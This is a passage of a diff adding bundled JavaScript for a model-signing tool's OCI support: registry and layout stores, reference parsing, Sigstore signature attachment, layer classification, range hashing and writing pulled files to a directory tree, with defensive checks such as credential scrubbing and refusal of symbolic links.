+          throw reject("OCI_BLOB_UNREADABLE", `blob ${desc.digest} of ${this.where}: ${errnoCode(e) === "ENOENT" ? "missing" : errnoCode(e) === "ELOOP" ? "a symbolic link (not followed)" : errnoCode(e) ?? String(e)}`);
+        }
+        if (!(await fh.stat()).isFile()) {
+          await fh.close();
+          throw reject("OCI_BLOB_UNREADABLE", `blob ${desc.digest} of ${this.where} is not a regular file`);
+        }
+        const rs2 = fh.createReadStream({ highWaterMark: 1024 * 1024 });
+        rs2.on("data", (c) => this.received.bytes += c.length);
+        return checked(rs2, desc, this.where);
+      }
+      async referrers(digest) {
+        const out2 = [];
+        const candidates = (await this.index()).manifests.filter((d) => d.mediaType === MEDIA.ociManifest && (d.artifactType === void 0 || d.artifactType === MEDIA.bundle));
+        for (const d of candidates.slice(0, MAX_REFERRER_CANDIDATES)) {
+          let m2;
+          try {
+            const f2 = await this.manifest({ digest: d.digest });
+            m2 = parseManifest(f2.bytes, d.mediaType);
+          } catch {
+            if (d.artifactType === MEDIA.bundle) out2.push(d);
+            continue;
+          }
+          if (m2.kind === "manifest" && m2.subject?.digest === digest) out2.push({ ...d, ...m2.artifactType ? { artifactType: m2.artifactType } : {}, ...m2.annotations ? { annotations: m2.annotations } : {} });
+        }
+        return out2;
+      }
+      async pushBlob(bytes) {
+        const hex = createHash7("sha256").update(bytes).digest("hex");
+        const d = { mediaType: "application/octet-stream", digest: `sha256:${hex}`, size: bytes.length };
+        const file = this.blobPath(d.digest);
+        const exists = await stat8(file).then((s3) => s3.isFile() && s3.size === bytes.length, () => false);
+        if (!exists) await writeAtomic(file, bytes, "WRITE_FAILED", `blob ${d.digest} of ${this.where}`, { createDirs: true });
+        return d;
+      }
+      async pushReferrer(manifest, _subject, listed) {
+        await this.pushBlob(manifest);
+        const idx = await this.index();
+        if (idx.manifests.some((d) => d.digest === listed.digest)) return;
+        const body = { schemaVersion: 2, mediaType: MEDIA.ociIndex, manifests: [...idx.manifests, listed] };
+        await writeAtomic(path18.join(this.ref.dir, "index.json"), JSON.stringify(body), "WRITE_FAILED", `${this.where}/index.json`);
+      }
+    };
+  }
+});
+
+// src/oci/secrets.ts
+var Secrets;
+var init_secrets = __esm({
+  "src/oci/secrets.ts"() {
+    "use strict";
+    Secrets = class {
+      values = /* @__PURE__ */ new Set();
+      add(value) {
+        if (value === void 0 || value.length < 4) return;
+        this.values.add(value);
+        this.values.add(Buffer.from(value).toString("base64"));
+        this.values.add(encodeURIComponent(value));
+      }
+      /** Basic credentials: the pair and its base64 form too. */
+      addBasic(user, password) {
+        this.add(password);
+        this.add(`${user}:${password}`);
+      }
+      scrub(text) {
+        let out2 = text;
+        for (const v2 of [...this.values].sort((a, b2) => b2.length - a.length)) if (out2.includes(v2)) out2 = out2.split(v2).join("***");
+        return out2;
+      }
+    };
+  }
+});
+
+// src/oci/reference.ts
+function formatReference(r) {
+  const at2 = r.digest ? `@${r.digest}` : r.tag ? `:${r.tag}` : "";
+  return r.kind === "remote" ? `oci://${r.registry}/${r.repository}${at2}` : `oci:${r.dir}${at2}`;
+}
+function pinned(r, digest) {
+  return r.kind === "remote" ? `oci://${r.registry}/${r.repository}@${digest}` : `oci:${r.dir}@${digest}`;
+}
+function bad5(what) {
+  throw usage("OCI_BAD_REFERENCE", what);
+}
+function splitTagDigest(s3) {
+  let name2 = s3;
+  let digest;
+  const at2 = name2.lastIndexOf("@");
+  if (at2 >= 0) {
+    digest = name2.slice(at2 + 1);
+    name2 = name2.slice(0, at2);
+    if (!DIGEST2.test(digest)) bad5(`the digest in an OCI reference must be sha256: and 64 lowercase hex digits (got ${JSON.stringify(digest.slice(0, 80))})`);
+  }
+  let tag;
+  const colon = name2.lastIndexOf(":");
+  if (colon > name2.lastIndexOf("/")) {
+    tag = name2.slice(colon + 1);
+    name2 = name2.slice(0, colon);
+    if (!TAG.test(tag)) bad5(`the tag in an OCI reference must match [A-Za-z0-9_][A-Za-z0-9._-]{0,127} (got ${JSON.stringify(tag.slice(0, 140))})`);
+  }
+  return { name: name2, ...tag !== void 0 ? { tag } : {}, ...digest !== void 0 ? { digest } : {} };
+}
+function parseRemote(model) {
+  const rest = model.slice("oci://".length);
+  const slash = rest.indexOf("/");
+  const host = (slash < 0 ? rest : rest.slice(0, slash)).toLowerCase();
+  if (host.includes("@")) bad5("an OCI reference must not carry credentials (user:password@host): put them in the Docker configuration (docker login)");
+  if (!HOST.test(host)) bad5(`not a registry host: ${JSON.stringify(host.slice(0, 260))} (expected oci://REGISTRY/REPOSITORY:TAG)`);
+  if (slash < 0) bad5(`${JSON.stringify(model.slice(0, 300))} names no repository (expected oci://REGISTRY/REPOSITORY:TAG)`);
+  const { name: name2, tag, digest } = splitTagDigest(rest.slice(slash + 1));
+  if (name2.length === 0 || name2.length > MAX_REPOSITORY || !name2.split("/").every((c) => COMPONENT.test(c))) {
+    bad5(`not a repository name: ${JSON.stringify(name2.slice(0, 300))} (lowercase letters, digits and . _ - separators, components joined by /)`);
+  }
+  if (tag === void 0 && digest === void 0) bad5(`${JSON.stringify(model.slice(0, 300))} names no tag or digest: add :TAG or @sha256:DIGEST`);
+  return { kind: "remote", registry: host, repository: name2, ...tag !== void 0 ? { tag } : {}, ...digest !== void 0 ? { digest } : {} };
+}
+function parseLayout(model) {
+  let rest = model.slice("oci:".length);
+  let digest;
+  const m2 = /@(sha256:[0-9a-f]{64})$/.exec(rest);
+  if (m2) {
+    digest = m2[1];
+    rest = rest.slice(0, m2.index);
+  }
+  const colon = rest.indexOf(":");
+  const dir = colon < 0 ? rest : rest.slice(0, colon);
+  const tag = colon < 0 ? void 0 : rest.slice(colon + 1);
+  if (dir === "") bad5("oci:DIR names no directory (expected oci:DIR or oci:DIR:TAG)");
+  if (tag !== void 0 && !TAG.test(tag)) bad5(`the tag in ${JSON.stringify(model.slice(0, 300))} must match [A-Za-z0-9_][A-Za-z0-9._-]{0,127} (a layout directory cannot contain ":")`);
+  if (tag !== void 0 && digest !== void 0) bad5("name a layout manifest by tag or by digest, not both");
+  return { kind: "layout", dir, ...tag !== void 0 ? { tag } : {}, ...digest !== void 0 ? { digest } : {} };
+}
+function parseReference(model) {
+  return model.startsWith("oci://") ? parseRemote(model) : parseLayout(model);
+}
+var TAG, DIGEST2, COMPONENT, HOST, MAX_REPOSITORY;
+var init_reference = __esm({
+  "src/oci/reference.ts"() {
+    "use strict";
+    init_errors();
+    TAG = /^[A-Za-z0-9_][A-Za-z0-9._-]{0,127}$/;
+    DIGEST2 = /^sha256:[0-9a-f]{64}$/;
+    COMPONENT = /^[a-z0-9]+(?:(?:\.|_|__|-+)[a-z0-9]+)*$/;
+    HOST = /^(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?(?:\.[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?)*|\[[0-9a-f:.]+\])(?::[0-9]{1,5})?$/;
+    MAX_REPOSITORY = 255;
+  }
+});
+
+// src/oci/signatures.ts
+import { createHash as createHash8 } from "node:crypto";
+function createdOf(d) {
+  const c = d.annotations?.["org.opencontainers.image.created"];
+  return c !== void 0 && RFC3339.test(c) && !Number.isNaN(Date.parse(c)) ? c : void 0;
+}
+function orderAttached(ds2) {
+  const seen = /* @__PURE__ */ new Set();
+  const unique = ds2.filter((d) => d.artifactType === MEDIA.bundle && !seen.has(d.digest) && seen.add(d.digest));
+  const time = (d) => {
+    const c = createdOf(d);
+    return c === void 0 ? -Infinity : Date.parse(c);
+  };
+  return unique.sort((a, b2) => time(b2) - time(a) || (a.digest < b2.digest ? -1 : a.digest > b2.digest ? 1 : 0));
+}
+async function collect2(stream, max) {
+  const parts = [];
+  let n = 0;
+  for await (const c of stream) {
+    n += c.length;
+    if (n > max) throw reject("SIG_TOO_LARGE", `attached signature is larger than ${max} bytes`);
+    parts.push(c);
+  }
+  return Buffer.concat(parts);
+}
+async function readReferrer(store, d, subject, at2) {
+  let m2;
+  try {
+    const f2 = await store.manifest({ digest: d.digest });
+    m2 = parseManifest(f2.bytes, f2.mediaType ?? d.mediaType, `signature manifest ${d.digest}`);
+  } catch (e) {
+    throw reject("SIG_UNREADABLE", `attached signature ${at2}: ${e instanceof Error ? e.message : String(e)}`);
+  }
+  if (m2.kind !== "manifest") throw reject("SIG_MALFORMED", `attached signature ${at2} is an index, not a bundle manifest`);
+  if (m2.subject?.digest !== subject) throw reject("SIG_MALFORMED", `attached signature ${at2} is attached to ${m2.subject?.digest ?? "nothing"}, not to ${subject}`);
+  const layer = m2.layers[0];
+  if ((m2.artifactType ?? m2.config.mediaType) !== MEDIA.bundle || m2.layers.length !== 1 || layer?.mediaType !== MEDIA.bundle) {
+    throw reject("SIG_MALFORMED", `attached signature ${at2} is not a Sigstore bundle manifest (one layer of ${MEDIA.bundle})`);
+  }
+  if (layer.size > MAX_BUNDLE_BYTES) throw reject("SIG_TOO_LARGE", `attached signature ${at2} is ${layer.size} bytes, more than the ${MAX_BUNDLE_BYTES} read`);
+  try {
+    return await collect2(await store.blob(layer), MAX_BUNDLE_BYTES);
+  } catch (e) {
+    if (e instanceof ModelsignError && e.code.startsWith("SIG_")) throw e;
+    throw reject("SIG_UNREADABLE", `attached signature ${at2}: ${e instanceof Error ? e.message : String(e)}`);
+  }
+}
+async function listAttached(store, subject, pin) {
+  const ordered = orderAttached(await store.referrers(subject)).slice(0, MAX_ATTACHED);
+  return ordered.map((d) => {
+    const location = pin(d.digest);
+    return { location, digest: d.digest, created: createdOf(d), read: () => readReferrer(store, d, subject, location) };
+  });
+}
+async function attachBundle(store, subject, bundle, created) {
+  const blob = await store.pushBlob(bundle);
+  const hex = blob.digest.slice("sha256:".length);
+  await store.pushBlob(EMPTY_CONFIG);
+  const layer = { mediaType: MEDIA.bundle, digest: blob.digest, size: blob.size, annotations: { "org.opencontainers.image.title": `sha256-${hex}.sigstore.json` } };
+  const annotations2 = { "dev.sigstore.bundle.content": "dsse-envelope", "dev.sigstore.bundle.predicateType": OMS_PREDICATE_TYPE, "org.opencontainers.image.created": created.toISOString() };
+  const manifest = bundleManifest(layer, subject, annotations2);
+  const digest = `sha256:${createHash8("sha256").update(manifest).digest("hex")}`;
+  const listed = { mediaType: MEDIA.ociManifest, digest, size: manifest.length, artifactType: MEDIA.bundle, annotations: annotations2 };
+  await store.pushReferrer(manifest, subject, listed);
+  return digest;
+}
+var MAX_ATTACHED, RFC3339;
+var init_signatures = __esm({
+  "src/oci/signatures.ts"() {
+    "use strict";
+    init_errors();
+    init_bundle();
+    init_statement();
+    init_manifest();
+    MAX_ATTACHED = 32;
+    RFC3339 = /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(?:\.\d+)?(?:Z|[+-]\d\d:\d\d)$/;
+  }
+});
+
+// src/oci/layers.ts
+function fileNamed(name2, field) {
+  if (name2 === void 0) return { kind: "refused", code: "OCI_LAYER_UNSUPPORTED", why: `a raw layer without the ${field} annotation (no file name)` };
+  const why2 = unsafeNameReason(name2);
+  if (why2) return { kind: "refused", code: "UNSAFE_NAME", why: `layer file name ${JSON.stringify(name2.slice(0, 200))}: ${why2}` };
+  return { kind: "file", name: name2 };
+}
+function tarOf(mediaType) {
+  if (/zstd/.test(mediaType)) return { kind: "refused", code: "OCI_LAYER_UNSUPPORTED", why: `zstd-compressed layers are not supported (${mediaType})` };
+  return { kind: "tar", gzip: /gzip/.test(mediaType) };
+}
+function classifyLayer(d) {
+  const a = d.annotations ?? {};
+  const mp = MODELPACK.exec(d.mediaType);
+  if (mp) {
+    if (mp[1] === "raw") return fileNamed(a[ANNOTATION.filepath] ?? a[ANNOTATION.title], ANNOTATION.filepath);
+    return tarOf(d.mediaType);
+  }
+  const title = a[ANNOTATION.title];
+  if (title !== void 0) {
+    if (a[ANNOTATION.unpack] === "true") return IMAGE_TAR.has(d.mediaType) || IMAGE_TGZ.has(d.mediaType) ? tarOf(d.mediaType) : refusedType(d.mediaType);
+    return fileNamed(title, ANNOTATION.title);
+  }
+  if (IMAGE_TAR.has(d.mediaType) || IMAGE_TGZ.has(d.mediaType)) return tarOf(d.mediaType);
+  return refusedType(d.mediaType);
+}
+function refusedType(mediaType) {
+  return { kind: "refused", code: "OCI_LAYER_UNSUPPORTED", why: `layer media type ${JSON.stringify(mediaType.slice(0, 120))} is neither a named file nor a tar archive` };
+}
+var ANNOTATION, MODELPACK, IMAGE_TAR, IMAGE_TGZ;
+var init_layers = __esm({
+  "src/oci/layers.ts"() {
+    "use strict";
+    init_paths();
+    ANNOTATION = {
+      filepath: "org.cncf.model.filepath",
+      title: "org.opencontainers.image.title",
+      unpack: "io.deis.oras.content.unpack"
+    };
+    MODELPACK = /^application\/vnd\.cncf\.model\.[a-z]+(?:\.[a-z]+)*\.v1\.(raw|tar|tar\+gzip|tar\+zstd)$/;
+    IMAGE_TAR = /* @__PURE__ */ new Set(["application/vnd.oci.image.layer.v1.tar", "application/vnd.docker.image.rootfs.diff.tar"]);
+    IMAGE_TGZ = /* @__PURE__ */ new Set(["application/vnd.oci.image.layer.v1.tar+gzip", "application/vnd.docker.image.rootfs.diff.tar.gzip"]);
+  }
+});
+
+// src/oci/index.ts
+function openStore2(ref, opts, received) {
+  if (ref.kind === "layout") return new Layout(ref, received);
+  return new Registry(ref, {
+    insecure: new Set((opts.insecureRegistries ?? []).map((h) => h.toLowerCase())),
+    idleTimeoutMs: opts.idleTimeoutMs ?? DEFAULT_IDLE_TIMEOUT_MS,
+    secrets: new Secrets(),
+    received,
+    ...opts.dockerConfigDir !== void 0 ? { dockerConfigDir: opts.dockerConfigDir } : {}
+  });
+}
+var DEFAULT_IDLE_TIMEOUT_MS;
+var init_oci = __esm({
+  "src/oci/index.ts"() {
+    "use strict";
+    init_layout();
+    init_registry();
+    init_secrets();
+    init_reference();
+    init_signatures();
+    init_layers();
+    init_manifest();
+    init_digest_check();
+    DEFAULT_IDLE_TIMEOUT_MS = 6e4;
+  }
+});
+
+// src/source/range-hasher.ts
+var RangeHasher;
+var init_range_hasher = __esm({
+  "src/source/range-hasher.ts"() {
+    "use strict";
+    init_algorithms2();
+    RangeHasher = class {
+      constructor(alg, requested, size) {
+        this.alg = alg;
+        this.size = size;
+        const ok = requested.filter(([s3, e]) => Number.isSafeInteger(s3) && Number.isSafeInteger(e) && s3 >= 0 && e >= s3 && e <= size);
+        ok.sort((a, b2) => a[0] - b2[0] || a[1] - b2[1]);
+        const out2 = [];
+        let end = 0;
+        for (const r of ok) {
+          const prev = out2[out2.length - 1];
+          if (r[0] === r[1] ? prev?.[0] === r[0] && prev[1] === r[1] : r[0] < end) continue;
+          out2.push([r[0], r[1]]);
+          if (r[1] > end) end = r[1];
+        }
+        this.ranges = out2;
+      }
+      ranges;
+      digests = [];
+      cur = 0;
+      pos = 0;
+      hasher;
+      closeEmpty() {
+        while (this.cur < this.ranges.length && this.ranges[this.cur][0] === this.ranges[this.cur][1] && this.ranges[this.cur][0] <= this.pos) {
+          this.digests[this.cur++] = createHasher2(this.alg).digestHex();
+        }
+      }
+      update(chunk) {
+        const cEnd = this.pos + chunk.length;
+        for (; ; ) {
+          this.closeEmpty();
+          if (this.cur >= this.ranges.length || this.ranges[this.cur][0] >= cEnd) break;
+          const [s3, e] = this.ranges[this.cur];
+          this.hasher ??= createHasher2(this.alg);
+          const from = Math.max(s3, this.pos);
+          const to2 = Math.min(e, cEnd);
+          if (to2 > from) this.hasher.update(chunk.subarray(from - this.pos, to2 - this.pos));
+          if (e > cEnd) break;
+          this.digests[this.cur++] = this.hasher.digestHex();
+          this.hasher = void 0;
+        }
+        this.pos = cEnd;
+      }
+      /** The digest of each range (in `ranges` order), or undefined when the bytes were not `size` long. */
+      finish() {
+        this.closeEmpty();
+        return this.pos === this.size && this.cur === this.ranges.length ? this.digests : void 0;
+      }
+    };
+  }
+});
+
+// src/source/oci/tree-writer.ts
+import { closeSync as closeSync3, constants as constants7, mkdirSync, openSync as openSync3, writeSync as writeSync2 } from "node:fs";
+import { lstat as lstat5, mkdir as mkdir3, mkdtemp as mkdtemp2, readdir, rm as rm2 } from "node:fs/promises";
+import os6 from "node:os";
+import path19 from "node:path";
+var TreeWriter;
+var init_tree_writer = __esm({
+  "src/source/oci/tree-writer.ts"() {
+    "use strict";
+    init_errors();
+    init_errno();
+    TreeWriter = class _TreeWriter {
+      constructor(root, ownsRoot) {
+        this.root = root;
+        this.ownsRoot = ownsRoot;
+      }
+      /** Files written whole, by name. */
+      written = /* @__PURE__ */ new Map();
+      failed = /* @__PURE__ */ new Map();
+      /** A private temporary directory (mode 0700), removed by discard(). */
+      static async spool() {
+        return new _TreeWriter(await mkdtemp2(path19.join(os6.tmpdir(), "modelsign-oci-")), true);
+      }
+      /** DIR for --pull-to: created if absent, else it must be an empty directory. */
+      static async target(dir) {
+        const st2 = await lstat5(dir).catch((e) => errnoCode(e) === "ENOENT" ? void 0 : Promise.reject(e));
+        if (st2 === void 0) {
+          try {
+            await mkdir3(dir, { recursive: true });
+          } catch (e) {
+            throw usage("PULL_FAILED", `--pull-to ${dir}: cannot create it: ${errnoWords(e)}`);
+          }
+          return new _TreeWriter(path19.resolve(dir), true);
+        }
+        if (!st2.isDirectory()) throw usage("PULL_FAILED", `--pull-to ${dir} exists and is not a directory`);
+        if ((await readdir(dir)).length > 0) throw usage("PULL_FAILED", `--pull-to ${dir} is not empty: pull into an empty or new directory`);
+        return new _TreeWriter(path19.resolve(dir), false);
+      }
+      pathOf(name2) {
+        return path19.join(this.root, ...name2.split("/"));
+      }
+      /** A sink for NAME's bytes; the file counts as written once end(true) succeeds. */
+      open(name2) {
+        const file = this.pathOf(name2);
+        let fd;
+        let failure;
+        const fail = (e, what) => {
+          failure ??= { code: "PULL_FAILED", path: name2, message: `cannot ${what} ${file}: ${errnoWords(e)}` };
+        };
+        try {
+          mkdirSync(path19.dirname(file), { recursive: true });
+          fd = openSync3(file, constants7.O_WRONLY | constants7.O_CREAT | constants7.O_EXCL | constants7.O_NOFOLLOW, 420);
+        } catch (e) {
+          fail(e, "create");
+        }
+        return {
+          write: (chunk) => {
+            if (fd === void 0 || failure) return;
+            try {
+              for (let off = 0; off < chunk.length; ) off += writeSync2(fd, chunk, off, chunk.length - off);
+            } catch (e) {
+              fail(e, "write");
+            }
+          },
+          end: (complete) => {
+            if (fd !== void 0) {
+              try {
+                closeSync3(fd);
+              } catch (e) {
+                fail(e, "close");
+              }
+            }
+            if (!complete) failure ??= { code: "FILE_CHANGED", path: name2, message: "the download ended before the whole file was read" };
+            if (failure) this.failed.set(name2, failure);
+            else this.written.set(name2, file);
+          }
+        };
+      }
+      /** Why NAME was not written whole, if it was opened at all. */
+      failure(name2) {
+        return this.failed.get(name2);
+      }
+      isWritten(name2) {
+        return this.written.has(name2);
+      }
+      /** NAME as a listed local file (for a verified re-open), when it was written whole. */
+      async file(name2) {
+        const abs = this.written.get(name2);
+        if (abs === void 0) return void 0;
+        const st2 = await lstat5(abs);
+        return { name: name2, abs, size: st2.size, viaLink: false, id: { dev: st2.dev, ino: st2.ino }, stamp: { mtimeMs: st2.mtimeMs, ctimeMs: st2.ctimeMs } };
+      }
+      /** Remove everything written, to start over (verify tries another attached signature). */
+      async clear() {
+        for (const entry of await readdir(this.root).catch(() => [])) await rm2(path19.join(this.root, entry), { recursive: true, force: true });
+        this.written.clear();
+        this.failed.clear();
+      }
+      /** Remove everything written (and the root when this writer made it). */
+      async discard() {
+        await this.clear();
+        if (this.ownsRoot) await rm2(this.root, { recursive: true, force: true });
+      }
+    };
+  }
+});
+
+// src/source/oci/read.ts
+import { finished } from "node:stream/promises";
+function blobFailure(e, path30) {
+  const code = e instanceof ModelsignError || e instanceof DigestMismatch ? e.code : "OCI_BLOB_UNREADABLE";
+  const message = e instanceof Error ? e.message : String(e);
+  return path30 === void 0 ? { code, message } : { code, path: path30, message };
+}
+function fromDigest(req, ranges, desc) {
+  const [only] = ranges;
+  return req.alg === "sha256" && ranges.length === 1 && only[0] === 0 && only[1] === desc.size && desc.digest.startsWith("sha256:") ? desc.digest.slice(7) : void 0;
+}
+async function inspectKept(r, inspector) {
+  for (const file of r.files) {
+    if (!inspector.wants(file) || !r.writer) continue;
+    const failed = r.writer.failure(file.name);
+    if (failed) {
+      inspector.unreadable(file, failed);
+      continue;
+    }
+    const local = await r.writer.file(file.name);
+    if (!local) continue;
+    const failure = await withVerifiedFile(local, (content) => inspector.inspect({ ...content, file }));
+    if (!failure) continue;
+    inspector.unreadable(file, failure);
+    for (const k2 of r.hashed.keys()) if (k2.startsWith(`${file.name}\0`)) r.hashed.set(k2, { ok: false, code: failure.code, message: failure.message });
+  }
+}
+async function readOci(m2, initialProblems, req) {
+  const start = m2.received.bytes;
+  if (req.alg) await prepareAlgorithm(req.alg);
+  await m2.pull?.clear();
+  const writer = m2.pull ?? (req.inspector ? await TreeWriter.spool() : void 0);
+  const r = new OciRead(m2, req, writer);
+  for (const p2 of initialProblems) r.problems.push(p2);
+  try {
+    const raw = [];
+    for (const layer of m2.layers) {
+      if (layer.kind.kind !== "file") continue;
+      const f2 = r.listRaw(layer);
+      if (f2) raw.push([f2, layer.desc]);
+    }
+    const tars = m2.layers.filter((l) => l.kind.kind === "tar");
+    if (tars.length === 0) {
+      r.checkFolders();
+      req.onListed?.(r.listing());
+    }
+    for (const [f2, desc] of raw) await r.readRaw(f2, desc);
+    for (const t of tars) await r.readTar(t);
+    if (tars.length > 0) r.checkFolders();
+    req.engine?.onDone?.();
+    await req.onHashed?.();
+    const listing = r.listing();
+    if (req.inspector) await inspectKept(r, req.inspector);
+    return { listing, hashed: r.hashed, bytesRead: m2.received.bytes - start };
+  } finally {
+    if (writer && writer !== m2.pull) await writer.discard();
+  }
+}
+var StreamFailure, OciRead;
+var init_read2 = __esm({
+  "src/source/oci/read.ts"() {
+    "use strict";
+    init_errors();
+    init_algorithms2();
+    init_archive();
+    init_paths();
+    init_oci();
+    init_range_hasher();
+    init_ranges();
+    init_verified_file();
+    init_tree_writer();
+    StreamFailure = class extends Error {
+      constructor(reason) {
+        super("layer stream failed");
+        this.reason = reason;
+      }
+    };
+    OciRead = class {
+      constructor(m2, req, writer) {
+        this.m = m2;
+        this.req = req;
+        this.writer = writer;
+        this.total = m2.layers.reduce((s3, l) => s3 + l.desc.size, 0);
+      }
+      files = [];
+      problems = [];
+      hashed = /* @__PURE__ */ new Map();
+      /** Which layer each listed name came from (two layers may not give one name). */
+      owner = /* @__PURE__ */ new Map();
+      done = 0;
+      total;
+      progress(n) {
+        this.done += n;
+        this.req.engine?.onProgress?.(this.done, this.total);
+      }
+      /** Whether a listed file's bytes are written (pulled, or spooled for a scanner). */
+      keeps(file, ranges) {
+        if (!this.writer) return false;
+        return this.m.pull ? ranges.length > 0 : this.req.inspector?.wants(file) ?? false;
+      }
+      fail(name2, ranges, f2) {
+        for (const [s3, e] of ranges) this.hashed.set(rangeKey(name2, s3, e), { ok: false, code: f2.code, message: f2.message });
+      }
+      /** Claim NAME for a layer; a second claim is a problem (an extractor would overwrite one). */
+      claim(name2, layer) {
+        const first = this.owner.get(name2);
+        if (first === void 0) {
+          this.owner.set(name2, layer);
+          return true;
+        }
+        this.problems.push({ code: "DUPLICATE_NAME", path: name2, message: `layers ${first} and ${layer} both hold ${JSON.stringify(name2)}` });
+        return false;
+      }
+      listRaw(layer) {
+        const name2 = layer.kind.name;
+        if (!this.claim(name2, layer.desc.digest)) return void 0;
+        if (isIgnored(name2, this.req.ignorePaths) && !(this.req.signedPaths?.has(name2) ?? false)) return void 0;
+        const f2 = { name: name2, size: layer.desc.size, viaLink: false };
+        this.files.push(f2);
+        return f2;
+      }
+      async readRaw(file, desc) {
+        const ranges = this.req.ranges(file.name, file.size);
+        const keep = this.keeps(file, ranges);
+        const alg = this.req.alg;
+        if (!keep && (ranges.length === 0 || alg === void 0)) return;
+        const direct = this.m.pull ? void 0 : fromDigest(this.req, ranges, desc);
+        if (!keep && direct !== void 0) {
+          this.hashed.set(rangeKey(file.name, 0, file.size), { ok: true, digest: direct });
+          return;
+        }
+        const hasher = alg ? new RangeHasher(alg, ranges, file.size) : void 0;
+        const sink = keep ? this.writer.open(file.name) : void 0;
+        try {
+          const stream = await this.m.store.blob(desc);
+          for await (const chunk of stream) {
+            hasher?.update(chunk);
+            sink?.write(chunk);
+            this.progress(chunk.length);
+          }
+        } catch (e) {
+          sink?.end(false);
+          this.fail(file.name, ranges, blobFailure(e, file.name));
+          return;
+        }
+        sink?.end(true);
+        const written = sink ? this.writer.failure(file.name) : void 0;
+        if (written) return this.fail(file.name, ranges, written);
+        const digests = hasher?.finish();
+        hasher?.ranges.forEach(([s3, e], i) => this.hashed.set(rangeKey(file.name, s3, e), digests ? { ok: true, digest: digests[i] } : { ok: false, code: "FILE_CHANGED", message: "the layer did not hold the bytes its manifest says" }));
+      }
+      async readTar(layer) {
+        const at2 = `layer ${layer.desc.digest}`;
+        let stream;
+        try {
+          stream = await this.m.store.blob(layer.desc);
+        } catch (e) {
+          const f2 = blobFailure(e);
+          this.problems.push({ code: f2.code, message: `${at2}: ${f2.message}` });
+          return;
+        }
+        let streamError;
+        stream.on("error", (e) => streamError ??= e);
+        const before = this.done;
+        const requested = /* @__PURE__ */ new Set();
+        const result = await scanArchiveStream(stream, { label: this.m.pinned, size: layer.desc.size, gzipped: layer.kind.gzip, readError: (e) => new StreamFailure(e) }, {
+          alg: this.req.alg ?? "sha256",
+          ranges: (name2, size) => {
+            const r = this.req.alg ? this.req.ranges(name2, size) : [];
+            if (r.length > 0) requested.add(name2);
+            return r;
+          },
+          allowSymlinks: this.req.allowSymlinks,
+          ignorePaths: this.req.ignorePaths,
+          ...this.req.signedPaths ? { signedPaths: this.req.signedPaths } : {},
+          onProgress: (n) => this.progress(before + n - this.done),
+          ...this.writer ? { sink: { open: (name2, size) => this.keeps({ name: name2, size, viaLink: false }, requested.has(name2) ? [[0, size]] : []) ? this.writer.open(name2) : void 0 } } : {}
+        }).catch((e) => {
+          if (!(e instanceof StreamFailure)) throw e;
+          streamError ??= e.reason;
+          return void 0;
+        });
+        if (result && streamError === void 0 && !stream.destroyed && !stream.readableEnded) {
+          stream.resume();
+          await finished(stream).catch((e) => streamError ??= e);
+        }
+        if (streamError !== void 0 || !result) {
+          const f2 = blobFailure(streamError);
+          this.problems.push({ code: f2.code, message: `${at2}: ${f2.message}` });
+          return;
+        }
+        for (const p2 of result.listing.problems) this.problems.push(p2.path === void 0 ? { ...p2, message: `${at2}: ${p2.message}` } : p2);
+        for (const f2 of result.listing.files) {
+          if (!this.claim(f2.name, layer.desc.digest)) continue;
+          this.files.push({ name: f2.name, size: f2.size, viaLink: f2.viaLink });
+          if (this.m.pull && requested.has(f2.name) && !this.writer.isWritten(f2.name)) {
+            const why2 = this.writer.failure(f2.name) ?? { code: "PULL_FAILED", path: f2.name, message: "a link entry of a tar layer: --pull-to writes regular files only" };
+            for (const k2 of result.hashed.keys()) if (k2.startsWith(`${f2.name}\0`)) this.hashed.set(k2, { ok: false, code: why2.code, message: why2.message });
+            continue;
+          }
+          for (const [k2, v2] of result.hashed) if (k2.startsWith(`${f2.name}\0`)) this.hashed.set(k2, v2);
+        }
+      }
+      /** A file and a folder of the same name (from two layers): an extractor cannot write both. */
+      checkFolders() {
+        const names = new Set(this.owner.keys());
+        for (const name2 of names) {
+          for (let i = name2.indexOf("/"); i >= 0; i = name2.indexOf("/", i + 1)) {
+            const dir = name2.slice(0, i);
+            if (names.has(dir)) this.problems.push({ code: "DUPLICATE_NAME", path: name2, message: `its path goes through ${JSON.stringify(dir)}, which another layer holds as a file` });
+          }
+        }
+      }
+      listing() {
+        this.files.sort((a, b2) => compareCodePoints(a.name, b2.name));
+        return { root: this.m.pinned, isFile: false, files: this.files, problems: this.problems };
+      }
+    };
+  }
+});
+
+// src/source/oci/index.ts
+var oci_exports = {};
+__export(oci_exports, {
+  ociSource: () => ociSource
+});
+import path20 from "node:path";
+async function ociSource(model, opts = {}) {
+  const ref = parseReference(model);
+  const received = { bytes: 0 };
+  const store = openStore2(ref, opts.registry ?? {}, received);
+  const root = await store.manifest(ref.digest !== void 0 ? { digest: ref.digest } : ref.tag !== void 0 ? { tag: ref.tag } : {});
+  const m2 = parseManifest(root.bytes, root.mediaType, `manifest ${root.digest} of ${store.where}`);
+  if (m2.kind === "index") {
+    const first = m2.manifests.slice(0, 3).map((d) => pinned(ref, d.digest));
+    throw usage("OCI_INDEX", `${formatReference(ref)} names an image index of ${m2.manifests.length} manifests, not one artifact: name one by digest${first.length ? ` (${first.join(", ")}${m2.manifests.length > 3 ? ", ..." : ""})` : ""}`);
+  }
+  const at2 = pinned(ref, root.digest);
+  const subject = { mediaType: m2.mediaType, digest: root.digest, size: root.bytes.length };
+  const layers = m2.layers.map((desc) => ({ desc, kind: classifyLayer(desc) }));
+  const problems = [];
+  for (const l of layers) if (l.kind.kind === "refused") problems.push({ code: l.kind.code, message: `layer ${l.desc.digest}: ${l.kind.why}` });
+  const pull = opts.pullTo !== void 0 ? await TreeWriter.target(opts.pullTo) : void 0;
+  const model_ = { store, pinned: at2, layers, received, ...pull ? { pull } : {} };
+  const bundles = /* @__PURE__ */ new Map();
+  const attached = {
+    where: at2,
+    list: async () => (await listAttached(store, root.digest, (d) => pinned(ref, d))).map((a) => ({
+      location: a.location,
+      read: async () => {
+        const b2 = await a.read();
+        bundles.set(a.location, b2);
+        return b2;
+      }
+    })),
+    attach: async (bundle) => pinned(ref, await attachBundle(store, subject, bundle, /* @__PURE__ */ new Date()))
+  };
+  return {
+    kind: "oci",
+    model,
+    defaultIgnores: [],
+    defaultName: () => ref.kind === "remote" ? ref.repository : path20.basename(path20.resolve(ref.dir)),
+    // Signatures are attached to the manifest; this names them in messages.
